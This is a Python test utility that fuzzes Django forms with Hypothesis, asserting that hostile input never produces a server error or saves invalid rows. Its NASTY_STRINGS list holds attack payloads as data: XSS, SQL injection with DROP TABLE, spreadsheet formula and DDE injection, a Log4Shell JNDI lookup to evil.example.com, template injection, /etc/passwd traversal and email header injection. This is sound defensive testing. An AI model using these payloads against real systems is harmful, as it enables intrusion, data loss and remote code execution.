"""Hypothesis fuzzing of forms: hostile input never gives a 500 and never saves anything invalid.

Reuse it for any form:

    from .fuzzing import fuzz_form, hostile_text, snapshot

    def test_concern_form_survives_hostile_input(client, world):
        client.force_login(world.teacher)
        before = snapshot(Concern.objects.all())

        def check(data, response):
            if response.status_code == 200:              # the form came back with errors
                assert snapshot(Concern.objects.all()) == before

        fuzz_form(client, reverse("concern_create", args=[...]), st.fixed_dictionaries({
            "title": hostile_text(), "description": hostile_text(), "level": st.sampled_from(["1", "x", ""]),
        }), check=check, name="concern form")

`fuzz_form` always asserts "no server error"; `check(data, response)` adds what the form promises.
Examples run per form are counted and printed at the end of the run (tests/conftest.py).
"""

from collections import Counter

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

EXAMPLES = Counter()

# Input people (or attackers) really send: markup, injections, odd Unicode, huge and empty values.
NASTY_STRINGS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "' OR '1'='1' --",
    "'; DROP TABLE crocoos_user; --",
    '=HYPERLINK("http://evil.example.com")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "${jndi:ldap://evil.example.com/a}",
    "{{ 7*7 }}",
    "{% debug %}",
    "../../../../etc/passwd",
    "\u202eevil\u202c",
    "Ödön Lőrincz ș ț å ø ž ć",
    "𝕏" * 40,
    "x" * 5000,
    "\r\nBcc: victim@example.org",
    "teacher@test.example.org\x00@evil.example.com",
]


def hostile_text(max_size=300):
    return st.one_of(st.sampled_from(NASTY_STRINGS), st.text(max_size=max_size))


def hostile_email():
    return st.one_of(st.emails(), hostile_text(80))


def snapshot(queryset, *fields):
    """The rows a form must not change, as comparable values."""
    return list(queryset.order_by("pk").values_list(*(fields or ["pk"]), named=False))


def fuzz_form(client, url, strategy, *, check=None, name=None, examples=60, method="post"):
    """Send `examples` generated submissions of `strategy` to `url`; no 5xx, then `check(data, response)`."""

    @settings(
        max_examples=examples,
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(data=strategy)
    def run(data):
        response = getattr(client, method)(url, data)
        assert response.status_code < 500, f"{url} answered {response.status_code} to {data!r}"
        if check is not None:
            check(data, response)
        EXAMPLES[name or url] += 1

    run()
